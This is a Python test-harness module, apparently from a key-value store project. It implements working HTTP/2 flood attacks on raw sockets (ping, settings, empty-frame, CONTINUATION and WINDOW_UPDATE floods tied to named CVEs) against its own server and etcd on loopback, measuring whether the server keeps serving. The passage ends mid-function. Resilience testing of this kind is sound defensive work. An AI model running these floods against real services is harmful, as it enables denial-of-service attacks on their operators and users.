"""Hostile HTTP/2 clients on raw sockets, a well-behaved probe, and the server's memory: what
`kvs bench attack` and tests/kvs/test_serve_attacks.py run against `kvs serve` and etcd.

Each attack is one function that takes an endpoint (`127.0.0.1:PORT`, loopback only), is
bounded in time and frames, and returns an `AttackResult`: what it sent, and what the server
answered (GOAWAY code and debug data, RST_STREAM codes, HTTP `:status`, `grpc-status`) or
how the connection ended (EOF, reset, still open). The frames come from `h2grpc.wire`; the
server's header blocks are decoded with `hpack` (grpcio and etcd index theirs).

`Probe` is an ordinary grpcio client (a Put and a Range every 200 ms, 2 s deadline each) on a
thread; `RssSampler` reads the server's VmRSS from /proc. `run_attack` puts the three
together: probe before, during and after one attack, with the RSS before, at its peak and
after.
"""

from __future__ import annotations

import contextlib
import functools
import os
import resource
import select
import socket
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field

import grpc
import hpack

from h2grpc import wire
from kvstore.pb import rpc_pb2, rpc_pb2_grpc

RANGE = "/etcdserverpb.KV/Range"
PUT = "/etcdserverpb.KV/Put"
TXN = "/etcdserverpb.KV/Txn"
WATCH = "/etcdserverpb.Watch/Watch"

GRPC_OK = 0
GRPC_INTERNAL = 13
GRPC_RESOURCE_EXHAUSTED = 8

ERROR_NAMES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT",
    0x5: "STREAM_CLOSED",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xA: "CONNECT_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
    0xC: "INADEQUATE_SECURITY",
    0xD: "HTTP_1_1_REQUIRED",
}

UNKNOWN_FRAME_TYPE = 0xFA  # a frame type no RFC defines: to be ignored (RFC 9113 section 4.1)
CONNECT_TIMEOUT = 5.0  # seconds to connect one socket
PREFACE_TIMEOUT = 5.0  # seconds for the server's SETTINGS after our preface
READ_CHUNK = 1 << 20

Header = tuple[bytes, bytes]


def error_name(code: int) -> str:
    """An HTTP/2 error code's name (RFC 9113 section 7), or its hex value."""
    return ERROR_NAMES.get(code, f"0x{code:x}")


def raise_open_files_limit() -> int:
    """Raise this process's soft limit on open files to the hard limit (many sockets); the new limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        with contextlib.suppress(ValueError, OSError):
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
            soft = hard
    return soft


# ------------------------------------------------------------ request bytes


def header_block(fields: Iterable[Header]) -> bytes:
    """Fields as literals without indexing: they leave the server's HPACK table alone."""
    return b"".join(wire.hpack_literal(n, v) for n, v in fields)


def indexed_literal(name: bytes, value: bytes) -> bytes:
    """A field as 'literal with incremental indexing, new name' (RFC 7541 section 6.2.1): it
    enters the server's dynamic table (as index 62 when it is the newest entry)."""
    return b"\x40" + wire.hpack_integer(len(name), 7) + name + wire.hpack_integer(len(value), 7) + value


def headers_frames(
    sid: int, block: bytes, *, end_stream: bool = False, max_frame: int = wire.DEFAULT_MAX_FRAME
) -> bytes:
    """HEADERS, then CONTINUATION frames when the block is over `max_frame`."""
    first = wire.END_STREAM if end_stream else 0
    if len(block) <= max_frame:
        return wire.frame(wire.HEADERS, first | wire.END_HEADERS, sid, block)
    out = [wire.frame(wire.HEADERS, first, sid, block[:max_frame])]
    for at in range(max_frame, len(block), max_frame):
        last = at + max_frame >= len(block)
        out.append(wire.frame(wire.CONTINUATION, wire.END_HEADERS if last else 0, sid, block[at : at + max_frame]))
    return b"".join(out)


def data_frame(sid: int, payload: bytes, *, end_stream: bool = False) -> bytes:
    return wire.frame(wire.DATA, wire.END_STREAM if end_stream else 0, sid, payload)


def ping_frame(payload: bytes = b"\0" * 8) -> bytes:
    return wire.frame(wire.PING, 0, 0, payload)


def unary_request(sid: int, path: str, message: bytes, *, extra: Iterable[Header] = ()) -> bytes:
    """A whole unary call: HEADERS, then DATA with the one message and END_STREAM."""
    block = header_block(wire.grpc_request_headers(path, extra=extra))
    return headers_frames(sid, block) + data_frame(sid, wire.grpc_message(message), end_stream=True)


def range_request(key: bytes, range_end: bytes = b"") -> bytes:
    return rpc_pb2.RangeRequest(key=key, range_end=range_end).SerializeToString()


def watch_create(key: bytes, range_end: bytes = b"") -> bytes:
    create = rpc_pb2.WatchCreateRequest(key=key, range_end=range_end)
    return rpc_pb2.WatchRequest(create_request=create).SerializeToString()


def prefix_end(prefix: bytes) -> bytes:
    """The range_end that makes a range of every key starting with `prefix` (etcd's rule)."""
    return prefix[:-1] + bytes((prefix[-1] + 1,))


# ------------------------------------------------------------ one raw connection


@dataclass(slots=True)
class StreamSeen:
    """What the server sent on one stream."""

    headers: list[Header] | None = None  # the first header block
    http_status: str = ""
    grpc_status: int | None = None  # from the trailers (or a Trailers-Only response)
    data_bytes: int = 0
    ended: bool = False  # END_STREAM from the server
    reset: int | None = None  # the RST_STREAM code, if the server reset it


class H2Conn:
    """One client connection on a non-blocking socket, speaking HTTP/2 by hand.

    It sends whatever bytes it is given (`send`) and parses every frame the server sends
    while it writes or waits (`pump`): SETTINGS and PINGs of the server are acknowledged
    (unless `polite` is off), header blocks are HPACK-decoded in order, DATA is counted,
    RST_STREAM and GOAWAY are recorded. The server's flow-control windows for our DATA are
    kept (`can_send`). Nothing blocks longer than the deadline each call is given.
    """

    def __init__(self, sock: socket.socket, *, polite: bool = True) -> None:
        sock.setblocking(False)
        with contextlib.suppress(OSError):
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock = sock
        self.polite = polite
        self.eof = False  # the server closed (FIN)
        self.reset = False  # the connection was reset (RST, EPIPE)
        self.goaway: tuple[int, int, bytes] | None = None  # (last stream id, code, debug data)
        self.opened_at = time.monotonic()
        self.closed_at = 0.0  # when the end was seen (monotonic), 0 while open
        self.peer_settings: dict[int, int] = {}
        self.settings_received = 0  # SETTINGS frames (not ACKs) from the server
        self.settings_acks = 0
        self.frames_received: Counter[int] = Counter()
        self.bytes_received = 0
        self.bytes_written = 0
        self.pings_acked: set[bytes] = set()
        self.streams: dict[int, StreamSeen] = {}
        self.checks: set[int] = set()  # streams of our own well-behaved calls (`call`), not the attack's
        self.next_stream = 1
        self.send_window = wire.DEFAULT_WINDOW  # the connection's window the server gives us
        self.stream_windows: dict[int, int] = {}
        self._peer_initial_window = wire.DEFAULT_WINDOW
        self._in = bytearray()
        self._out = bytearray()
        self._fragment: tuple[int, bytearray] | None = None  # a header block awaiting CONTINUATION
        self._decoder = hpack.Decoder()
        self._decoder.max_header_list_size = 1 << 30  # ours only decodes what the server sends
        self._decoder.max_allowed_table_size = 1 << 16
        self.decode_error = ""

    # -- opening

    @classmethod
    def connect(cls, endpoint: str, *, rcvbuf: int = 0, polite: bool = True) -> H2Conn:
        """A connected socket to `endpoint` (`rcvbuf`: a small receive buffer, for clients that do not read)."""
        host, port = endpoint.rsplit(":", 1)
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            if rcvbuf:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
            sock.settimeout(CONNECT_TIMEOUT)
            sock.connect((host, int(port)))
        except BaseException:
            sock.close()
            raise
        return cls(sock, polite=polite)

    def start(self, settings: dict[int, int] | None = None, *, window: int = wire.MAX_WINDOW) -> None:
        """Queue the client preface, our SETTINGS (default: push off, 2 GiB stream windows) and a
        connection window of `window`, so the server is never held back by our flow control."""
        values = settings if settings is not None else default_settings()
        self.queue(wire.PREFACE + wire.settings_frame(values))
        if window > wire.DEFAULT_WINDOW:
            self.queue(wire.window_update(0, window - wire.DEFAULT_WINDOW))

    def handshake(
        self, deadline: float, settings: dict[int, int] | None = None, *, window: int = wire.MAX_WINDOW
    ) -> bool:
        """`start()`, then wait for the server's SETTINGS; False if it did not come by `deadline`."""
        self.start(settings, window=window)
        return self.pump(deadline, lambda: self.settings_received > 0)

    def new_stream(self) -> int:
        sid = self.next_stream
        self.next_stream += 2
        return sid

    # -- state

    @property
    def closed(self) -> bool:
        """The server closed the connection or it was reset."""
        return self.eof or self.reset

    def stream(self, sid: int) -> StreamSeen:
        seen = self.streams.get(sid)
        if seen is None:
            seen = self.streams[sid] = StreamSeen()
        return seen

    def done(self, sid: int) -> bool:
        """The server finished stream `sid` (trailers, END_STREAM or RST_STREAM), or the connection ended."""
        seen = self.streams.get(sid)
        return self.closed or self.goaway is not None or (seen is not None and (seen.ended or seen.reset is not None))

    def end_text(self) -> str:
        """How the connection ended: 'GOAWAY <code> <debug>', 'EOF', 'reset' or 'open'."""
        if self.goaway is not None:
            _, code, debug = self.goaway
            text = f"GOAWAY {error_name(code)}"
            return f"{text} {debug.decode('utf-8', 'replace')}" if debug else text
        if self.reset:
            return "reset"
        return "EOF" if self.eof else "open"

    # -- flow control of our DATA

    def can_send(self, sid: int) -> int:
        """Bytes of DATA the windows let us send on `sid` now."""
        return max(0, min(self.send_window, self.stream_windows.get(sid, self._peer_initial_window)))

    def window_moved(self, was: int, streams_were: dict[int, int]) -> bool:
        """A WINDOW_UPDATE came since the windows were `was` (the connection's) and `streams_were`."""
        return self.send_window != was or self.stream_windows != streams_were

    def sent_data(self, sid: int, n: int) -> None:
        self.send_window -= n
        self.stream_windows[sid] = self.stream_windows.get(sid, self._peer_initial_window) - n

    # -- I/O

    def queue(self, data: bytes) -> None:
        """Bytes to write with the next `send`, `flush` or `pump`."""
        self._out += data

    def send(self, data: bytes, deadline: float, *, read: bool = True) -> bool:
        """Write `data` (after what is queued), reading what the server sends meanwhile unless
        `read` is off; True if it is all written by `deadline` (and the connection still up)."""
        self._out += data
        return self.flush(deadline, read=read)

    def flush(self, deadline: float, *, read: bool = True, stall: float = 0.0) -> bool:
        """Write what is queued; True if all of it went out. Gives up at `deadline`, when the
        connection ends, or (`stall` > 0) when the socket took nothing for `stall` seconds."""
        last_progress = time.monotonic()
        while self._out and not self.closed:
            now = time.monotonic()
            if now >= deadline or (stall and now - last_progress >= stall):
                return False
            events = self._poll(min(deadline, last_progress + stall) if stall else deadline, read=read, write=True)
            if events & select.POLLOUT and self._write():
                last_progress = time.monotonic()
            if read and events & (select.POLLIN | select.POLLERR | select.POLLHUP):
                self._read()
            elif events & select.POLLERR:
                self.reset = True
        return not self._out and not self.closed

    def pump(self, deadline: float, until: Callable[[], bool] = lambda: False) -> bool:
        """Read (and write what is queued) until `until()` is true, the connection ends, or
        `deadline`; whether `until()` is true at the end."""
        while not until():
            if self.closed:
                return until()
            if time.monotonic() >= deadline:
                return False
            events = self._poll(deadline, read=True, write=bool(self._out))
            if events & select.POLLOUT:
                self._write()
            if events & (select.POLLIN | select.POLLERR | select.POLLHUP):
                self._read()
        return True

    def drain(self, deadline: float, *, quiet: float = 0.5) -> None:
        """Read until the connection ends, `deadline`, or nothing came for `quiet` s."""
        while not self.closed and time.monotonic() < deadline:
            before = self.bytes_received
            self.pump(min(deadline, time.monotonic() + quiet))
            if self.bytes_received == before:
                return

    def pending_out(self) -> int:
        return len(self._out)

    def unread_bytes(self) -> int:
        """What the server sent that this side's kernel holds unread (FIONREAD)."""
        import fcntl
        import termios

        buf = fcntl.ioctl(self.sock.fileno(), termios.FIONREAD, b"\0\0\0\0")
        return int.from_bytes(buf, "little")

    def wait_hangup(self, deadline: float) -> bool:
        """Wait without reading until the connection is reset or hung up (POLLERR/POLLHUP), or
        `deadline`; True if it was. (A server's FIN behind unread data does not show: only a reset.)"""
        poller = select.poll()
        poller.register(self.sock.fileno(), select.POLLERR | select.POLLHUP | getattr(select, "POLLRDHUP", 0))
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                return False
            if poller.poll(max(1, int(left * 1000))):
                return True

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()

    def _poll(self, deadline: float, *, read: bool, write: bool) -> int:
        mask = (select.POLLIN if read else 0) | (select.POLLOUT if write else 0)
        poller = select.poll()
        poller.register(self.sock.fileno(), mask)
        left = max(0.0, deadline - time.monotonic())
        got = poller.poll(int(left * 1000) + 1)
        return got[0][1] if got else 0

    def _write(self) -> bool:
        try:
            n = self.sock.send(self._out[: 1 << 20])
        except BlockingIOError:
            return False
        except OSError:
            self.reset = True
            self.closed_at = time.monotonic()
            self._read()  # what the server sent before it reset the connection (its GOAWAY) is still readable
            return False
        del self._out[:n]
        self.bytes_written += n
        return n > 0

    def _read(self) -> None:
        """Read everything the kernel holds now, and parse it."""
        while True:
            try:
                chunk = self.sock.recv(READ_CHUNK)
            except BlockingIOError:
                break
            except OSError:
                self.reset = True
                self.closed_at = self.closed_at or time.monotonic()
                break
            if not chunk:
                self.eof = True
                self.closed_at = self.closed_at or time.monotonic()
                break
            self.bytes_received += len(chunk)
            self._in += chunk
            if len(chunk) < READ_CHUNK:
                break
        self._parse()

    # -- frames in

    def _parse(self) -> None:
        buf = self._in
        pos = 0
        end = len(buf)
        while end - pos >= wire.HEADER_LEN:
            high, low, kind, flags, sid = wire.HEADER.unpack_from(buf, pos)
            length = high << 16 | low
            if end - pos - wire.HEADER_LEN < length:
                break
            start = pos + wire.HEADER_LEN
            payload = bytes(buf[start : start + length]) if kind != wire.DATA else b""
            self._frame(kind, flags, sid & 0x7FFFFFFF, payload, length)
            pos = start + length
        del buf[:pos]

    def _frame(self, kind: int, flags: int, sid: int, payload: bytes, length: int) -> None:
        self.frames_received[kind] += 1
        if kind == wire.DATA:
            seen = self.stream(sid)
            seen.data_bytes += length
            if flags & wire.END_STREAM:
                seen.ended = True
        elif kind in (wire.HEADERS, wire.CONTINUATION):
            self._on_header_fragment(kind, flags, sid, payload)
        elif kind == wire.SETTINGS:
            if flags & wire.ACK:
                self.settings_acks += 1
                return
            self.settings_received += 1
            for key, value in wire.parse_settings(payload):
                if key == wire.SETTINGS_INITIAL_WINDOW_SIZE:
                    delta = value - self._peer_initial_window
                    self._peer_initial_window = value
                    for s in self.stream_windows:
                        self.stream_windows[s] += delta
                self.peer_settings[key] = value
            if self.polite:
                self._out += wire.frame(wire.SETTINGS, wire.ACK, 0)
        elif kind == wire.PING:
            if flags & wire.ACK:
                self.pings_acked.add(payload)
            elif self.polite:
                self._out += wire.frame(wire.PING, wire.ACK, 0, payload)
        elif kind == wire.WINDOW_UPDATE and len(payload) == 4:
            inc = wire.u32(payload) & 0x7FFFFFFF
            if sid == 0:
                self.send_window += inc
            else:
                self.stream_windows[sid] = self.stream_windows.get(sid, self._peer_initial_window) + inc
        elif kind == wire.RST_STREAM and len(payload) == 4:
            self.stream(sid).reset = wire.u32(payload)
        elif kind == wire.GOAWAY and len(payload) >= 8 and (self.goaway is None or wire.u32(payload, 4)):
            # The first GOAWAY, or an error after a graceful NO_ERROR one.
            self.goaway = (wire.u32(payload) & 0x7FFFFFFF, wire.u32(payload, 4), payload[8:])

    def _on_header_fragment(self, kind: int, flags: int, sid: int, payload: bytes) -> None:
        if kind == wire.HEADERS:
            if flags & wire.PADDED and payload:
                payload = payload[1 : len(payload) - payload[0]]
            if flags & wire.PRIORITY_FLAG:
                payload = payload[5:]
            self._fragment = (sid, bytearray(payload))
        elif self._fragment is not None:
            self._fragment[1].extend(payload)
        if flags & wire.END_STREAM:
            self.stream(sid).ended = True
        if not flags & wire.END_HEADERS or self._fragment is None:
            return
        block = bytes(self._fragment[1])
        self._fragment = None
        try:
            fields = [(bytes(n), bytes(v)) for n, v in self._decoder.decode(block, raw=True)]
        except hpack.HPACKError as exc:
            self.decode_error = str(exc)
            return
        seen = self.stream(sid)
        if seen.headers is None:
            seen.headers = fields
        for name, value in fields:
            if name == b":status":
                seen.http_status = value.decode("ascii", "replace")
            elif name == b"grpc-status" and value.isdigit():
                seen.grpc_status = int(value)

    # -- well-behaved exchanges on this connection

    def ping_ok(self, timeout: float = 5.0) -> bool:
        """Send one PING and wait for its ACK: the connection is still served."""
        payload = os.urandom(8)
        deadline = time.monotonic() + timeout
        self.queue(ping_frame(payload))
        return self.pump(deadline, lambda: payload in self.pings_acked)

    def call(self, path: str, message: bytes, timeout: float = 5.0) -> int | None:
        """One unary call on this connection: its grpc-status (None if none came by the deadline)."""
        sid = self.new_stream()
        self.checks.add(sid)
        deadline = time.monotonic() + timeout
        self.queue(unary_request(sid, path, message))
        self.pump(deadline, lambda: self.done(sid))
        return self.stream(sid).grpc_status


def default_settings() -> dict[int, int]:
    """Our SETTINGS: no push, and stream windows so big the server never waits for us."""
    return {wire.SETTINGS_ENABLE_PUSH: 0, wire.SETTINGS_INITIAL_WINDOW_SIZE: wire.MAX_WINDOW}


def pump_many(conns: Sequence[H2Conn], deadline: float, until: Callable[[], bool]) -> bool:
    """`H2Conn.pump` over many connections at once (one poll); whether `until()` is true at the end."""
    by_fd = {c.sock.fileno(): c for c in conns if not c.closed}
    while not until():
        live = {fd: c for fd, c in by_fd.items() if not c.closed}
        if not live or time.monotonic() >= deadline:
            return until()
        poller = select.poll()
        for fd, c in live.items():
            poller.register(fd, select.POLLIN | (select.POLLOUT if c.pending_out() else 0))
        left = max(0.0, deadline - time.monotonic())
        for fd, events in poller.poll(int(left * 1000) + 1):
            c = live[fd]
            if events & select.POLLOUT:
                c._write()
            if events & (select.POLLIN | select.POLLERR | select.POLLHUP):
                c._read()
        by_fd = live
    return True


def _all_done(streams: Sequence[tuple[H2Conn, int]]) -> bool:
    return all(conn.done(sid) for conn, sid in streams)


def _all_closed(conns: Sequence[H2Conn]) -> bool:
    return all(conn.closed for conn in conns)


def connect_many(endpoint: str, n: int, deadline: float, *, polite: bool = True) -> tuple[list[H2Conn], int]:
    """`n` connections opened at once (non-blocking connects); the connected ones and how many failed."""
    host, port = endpoint.rsplit(":", 1)
    pending: dict[int, socket.socket] = {}
    failed = 0
    for _ in range(n):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        err = sock.connect_ex((host, int(port)))
        if err not in (0, 115):  # 115: EINPROGRESS
            sock.close()
            failed += 1
            continue
        pending[sock.fileno()] = sock
    done: list[H2Conn] = []
    while pending and time.monotonic() < deadline:
        poller = select.poll()
        for fd in pending:
            poller.register(fd, select.POLLOUT)
        left = max(0.0, deadline - time.monotonic())
        for fd, _ in poller.poll(int(left * 1000) + 1):
            sock = pending.pop(fd)
            if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                sock.close()
                failed += 1
            else:
                done.append(H2Conn(sock, polite=polite))
    for sock in pending.values():
        sock.close()
        failed += 1
    return done, failed


# ------------------------------------------------------------ what an attack reports


@dataclass(slots=True)
class AttackResult:
    """What one attack sent and how the server answered it."""

    attack: str
    frames_sent: int = 0
    bytes_sent: int = 0
    seconds: float = 0.0
    ended: str = "open"  # the attacking connection: 'GOAWAY <code> <debug>', 'EOF', 'reset' or 'open'
    goaway_code: int | None = None
    goaway_debug: str = ""
    rst_codes: dict[int, int] = field(default_factory=dict)  # RST_STREAM code -> streams reset with it
    http_statuses: dict[str, int] = field(default_factory=dict)  # :status other than 200 -> streams
    grpc_statuses: dict[int, int] = field(default_factory=dict)  # grpc-status -> streams
    still_serving: bool | None = None  # afterwards, the connection still answered (None: not asked)
    connections: dict[str, int] = field(default_factory=dict)  # many connections: how they ended -> count
    details: dict[str, int | str] = field(default_factory=dict)  # facts of this attack

    def record(self, conn: H2Conn) -> None:
        """Take the attacking connection's end and what its streams got."""
        self.ended = conn.end_text()
        if conn.goaway is not None:
            self.goaway_code = conn.goaway[1]
            self.goaway_debug = conn.goaway[2].decode("utf-8", "replace")
        rst: Counter[int] = Counter()
        http: Counter[str] = Counter()
        grpc_status: Counter[int] = Counter()
        for sid, seen in conn.streams.items():
            if sid in conn.checks:
                continue
            if seen.reset is not None:
                rst[seen.reset] += 1
            if seen.http_status and seen.http_status != "200":
                http[seen.http_status] += 1
            if seen.grpc_status is not None:
                grpc_status[seen.grpc_status] += 1
        self.rst_codes = dict(rst)
        self.http_statuses = dict(http)
        self.grpc_statuses = dict(grpc_status)
        if conn.decode_error:
            self.details["hpack_error"] = conn.decode_error

    def summary(self) -> str:
        """One line: how the attacking connection(s) ended and what the streams got."""
        parts = [self.ended] if not self.connections else [f"{n} {how}" for how, n in sorted(self.connections.items())]
        if self.rst_codes:
            parts.append("RST " + ", ".join(f"{error_name(c)} x{n}" for c, n in sorted(self.rst_codes.items())))
        if self.http_statuses:
            parts.append("HTTP " + ", ".join(f"{s} x{n}" for s, n in sorted(self.http_statuses.items())))
        errors = {c: n for c, n in self.grpc_statuses.items() if c != GRPC_OK}
        if errors:
            parts.append("grpc-status " + ", ".join(f"{c} x{n}" for c, n in sorted(errors.items())))
        if self.still_serving is not None:
            parts.append("still serving" if self.still_serving else "no longer serving")
        return "; ".join(parts)


def _finish(result: AttackResult, conn: H2Conn, started: float, *, linger: float = 1.0) -> AttackResult:
    """Wait (at most `linger` s) for the server to close a connection it sent GOAWAY on, record, close."""
    if conn.goaway is not None:
        conn.pump(time.monotonic() + linger)
    elif conn.polite and not conn.eof:
        conn._read()  # a GOAWAY that came with the end (a reset can follow it)
    result.record(conn)
    result.bytes_sent = conn.bytes_written
    result.seconds = time.monotonic() - started
    conn.close()
    return result


def _open(
    endpoint: str, settings: dict[int, int] | None = None, *, window: int = wire.MAX_WINDOW, rcvbuf: int = 0
) -> H2Conn:
    """A connection that has sent its preface and SETTINGS, and received and acknowledged the server's."""
    conn = H2Conn.connect(endpoint, rcvbuf=rcvbuf)
    if not conn.handshake(time.monotonic() + PREFACE_TIMEOUT, settings, window=window):
        conn.close()
        raise ConnectionError(f"{endpoint}: no SETTINGS from the server within {PREFACE_TIMEOUT:g}s")
    return conn


def _flood(conn: H2Conn, frame: Callable[[int], bytes], frames: int, deadline: float, *, batch: int = 100) -> int:
    """Send `frames` frames made by `frame(i)`, `batch` per write, reading the replies; stop when
    the server sends GOAWAY or closes. How many were sent."""
    sent = 0
    while sent < frames and conn.goaway is None and not conn.closed:
        n = min(batch, frames - sent)
        if not conn.send(b"".join(frame(sent + i) for i in range(n)), deadline):
            break
        sent += n
    return sent


# ------------------------------------------------------------ the attacks


def ping_flood(endpoint: str, *, frames: int = 2000, timeout: float = 10.0) -> AttackResult:
    """PINGs as fast as the socket takes them, reading the ACKs (CVE-2019-9512, Ping Flood)."""
    started = time.monotonic()
    deadline = started + timeout
    conn = _open(endpoint)
    result = AttackResult("ping flood")
    result.frames_sent = _flood(conn, lambda i: ping_frame(i.to_bytes(8, "big")), frames, deadline)
    if conn.goaway is None and not conn.closed:
        result.still_serving = conn.ping_ok(max(0.5, deadline - time.monotonic()))
    result.details["acks"] = len(conn.pings_acked)
    return _finish(result, conn, started)


def ping_flood_unread(
    endpoint: str, *, frames: int = 200_000, rcvbuf: int = 4096, stall: float = 0.5, timeout: float = 15.0
) -> AttackResult:
    """PINGs written and their ACKs never read, so the server's replies pile up (Go's
    maxQueuedControlFrames, CVE-2019-9512/9515): sends until all are out or the server stops
    taking them for `stall` s, then reads what came back to see how the connection ended."""
    started = time.monotonic()
    deadline = started + timeout
    conn = _open(endpoint, rcvbuf=rcvbuf)  # the handshake is read and acknowledged; nothing after it
    conn.flush(deadline)
    conn.polite = False
    result = AttackResult("ping flood, replies unread")
    opening = conn.bytes_written
    conn.queue(b"".join(ping_frame(i.to_bytes(8, "big")) for i in range(frames)))
    all_out = conn.flush(deadline, read=False, stall=stall)
    result.frames_sent = (conn.bytes_written - opening) // (wire.HEADER_LEN + 8)
    # "closed": it ended the connection while we wrote; "yes": it took none of our bytes for `stall` s.
    result.details["server stopped reading"] = "closed" if conn.closed else "no" if all_out else "yes"
    conn.polite = True
    conn._out.clear()  # what the server would not take
    conn.drain(deadline)  # read everything: the ACKs, then how it ended
    result.details["acks"] = conn.frames_received[wire.PING]
    return _finish(result, conn, started)


def settings_flood(endpoint: str, *, frames: int = 2000, timeout: float = 10.0) -> AttackResult:
    """SETTINGS frames, each to be acknowledged (CVE-2019-9515, Settings Flood)."""
    started = time.monotonic()
    deadline = started + timeout
    conn = _open(endpoint)
    result = AttackResult("settings flood")
    frame = wire.settings_frame({wire.SETTINGS_ENABLE_PUSH: 0})
    result.frames_sent = _flood(conn, lambda i: frame, frames, deadline)
    if conn.goaway is None and not conn.closed:
        result.still_serving = conn.ping_ok(max(0.5, deadline - time.monotonic()))
    result.details["acks"] = conn.settings_acks - 1  # the first acknowledged our preface
    return _finish(result, conn, started)


EMPTY_FRAME_KINDS = ("data", "continuation", "priority", "unknown", "window_update")


def empty_frame_flood(endpoint: str, kind: str, *, frames: int = 5000, timeout: float = 10.0) -> AttackResult:
    """Frames that carry nothing yet cost a parse (CVE-2019-9518, Empty Frames Flood; and
    CVE-2019-9513's PRIORITY churn): empty DATA on an open Watch stream, empty CONTINUATION
    of an unfinished header block, PRIORITY on idle streams, frames of an unknown type, or
    WINDOW_UPDATE on a stream that has ended."""
    started = time.monotonic()
    deadline = started + timeout
    conn = _open(endpoint)
    result = AttackResult(f"empty frame flood ({kind})")
    block = header_block(wire.grpc_request_headers(WATCH))
    if kind == "data":
        sid = conn.new_stream()
        conn.queue(headers_frames(sid, block))
        frame = data_frame(sid, b"")
        make: Callable[[int], bytes] = lambda i: frame  # noqa: E731
    elif kind == "continuation":
        sid = conn.new_stream()
        conn.queue(wire.frame(wire.HEADERS, 0, sid, block))
        frame = wire.frame(wire.CONTINUATION, 0, sid, b"")
        make = lambda i: frame  # noqa: E731
    elif kind == "priority":
        priority = b"\0\0\0\0\x10"  # depends on stream 0, weight 17
        make = lambda i: wire.frame(wire.PRIORITY, 0, 2 * i + 1, priority)  # noqa: E731
    elif kind == "unknown":
        frame = wire.frame(UNKNOWN_FRAME_TYPE, 0, 0)
        make = lambda i: frame  # noqa: E731
    elif kind == "window_update":
        sid = conn.new_stream()
        conn.queue(unary_request(sid, RANGE, range_request(b"/attack/none")))
        conn.pump(deadline, lambda: conn.done(sid))
        frame = wire.window_update(sid, 1)
        make = lambda i: frame  # noqa: E731
    else:
        raise ValueError(f"empty_frame_flood: kind must be one of {', '.join(EMPTY_FRAME_KINDS)}, got {kind!r}")
    result.frames_sent = _flood(conn, make, frames, deadline)
    if kind == "continuation":  # end the block, or the PING below would be a protocol error
        conn.queue(wire.frame(wire.CONTINUATION, wire.END_HEADERS, sid, b""))
    if conn.goaway is None and not conn.closed:
        result.still_serving = conn.ping_ok(max(0.5, deadline - time.monotonic()))
    return _finish(result, conn, started)


def continuation_flood(endpoint: str, *, frames: int = 300, timeout: float = 10.0) -> AttackResult:
    """A header block that never ends: HEADERS without END_HEADERS, then full CONTINUATION
    frames of valid fields (CVE-2024-27316, CVE-2023-45288: the CONTINUATION flood)."""
    started = time.monotonic()
    deadline = started + timeout
    conn = _open(endpoint)
    result = AttackResult("continuation flood")
    sid = conn.new_stream()
    field_bytes = wire.hpack_literal(b"x-flood", b"f" * 1000)
    fragment = (field_bytes * (wire.DEFAULT_MAX_FRAME // len(field_bytes) + 1))[: wire.DEFAULT_MAX_FRAME]
    # Every fragment starts where a field starts only by luck; the server must not care: the
    # block is decoded once it is whole, and it is never whole.
    conn.queue(wire.frame(wire.HEADERS, 0, sid, header_block(wire.grpc_request_headers(RANGE))))
    frame = wire.frame(wire.CONTINUATION, 0, sid, fragment)
    result.frames_sent = _flood(conn, lambda i: frame, frames, deadline, batch=16)
    result.details["header bytes sent"] = result.frames_sent * len(fragment)
    if conn.goaway is None and not conn.closed:
        result.still_serving = conn.ping_ok(min(2.0, max(0.5, deadline - time.monotonic())))
    return _finish(result, conn, started)


def _open_watches(conn: H2Conn, streams: int, deadline: float, *, batch: int = 100) -> list[int]:
    """Open `streams` Watch streams of a key nobody writes; wait until each has its response
    HEADERS (the watch exists on the server). The stream ids."""
    create = wire.grpc_message(watch_create(b"/attack/watch/"))
    block = header_block(wire.grpc_request_headers(WATCH))
    sids: list[int] = []
    for start in range(0, streams, batch):
        chunk = []
        for _ in range(min(batch, streams - start)):
            sid = conn.new_stream()
            sids.append(sid)
            chunk.append(headers_frames(sid, block) + data_frame(sid, create))
        if not conn.send(b"".join(chunk), deadline):
            break
    conn.pump(deadline, lambda: all(conn.stream(s).headers is not None or conn.done(s) for s in sids))
    return sids


def window_update_flood(
    endpoint: str, *, streams: int = 900, frames: int = 12_000, timeout: float = 30.0
) -> AttackResult:
    """Many streams waiting for window (our SETTINGS_INITIAL_WINDOW_SIZE is 0), then
    WINDOW_UPDATE(+1) on the connection `frames` times in one write: a server that walks every
    waiting stream per frame freezes (Go's http2 keeps it O(1); CVE-2019-9511's family, Data Dribble)."""
    started = time.monotonic()
    deadline = started + timeout
    settings = {wire.SETTINGS_ENABLE_PUSH: 0, wire.SETTINGS_INITIAL_WINDOW_SIZE: 0}
    conn = _open(endpoint, settings, window=wire.DEFAULT_WINDOW)  # room for the +1s
    result = AttackResult("window update flood")
    sids = _open_watches(conn, streams, deadline)
    result.details["streams open"] = sum(1 for s in sids if conn.stream(s).headers is not None and not conn.done(s))
    frame = wire.window_update(0, 1)
    if conn.goaway is None and not conn.closed and conn.send(frame * frames, deadline):
        result.frames_sent = frames
    if conn.goaway is None and not conn.closed:
        result.still_serving = conn.ping_ok(max(0.5, deadline - time.monotonic()))
    return _finish(result, conn, started)


def settings_window_flipflop(
    endpoint: str, *, streams: int = 900, frames: int = 12_000, timeout: float = 30.0
) -> AttackResult:
    """Many streams waiting for window, then SETTINGS that flip INITIAL_WINDOW_SIZE between 1
    and 0 `frames` times in one write: each change applies to every open stream (RFC 9113
    section 6.9.2), which must not cost a walk over all of them per frame."""
    started = time.monotonic()
    deadline = started + timeout
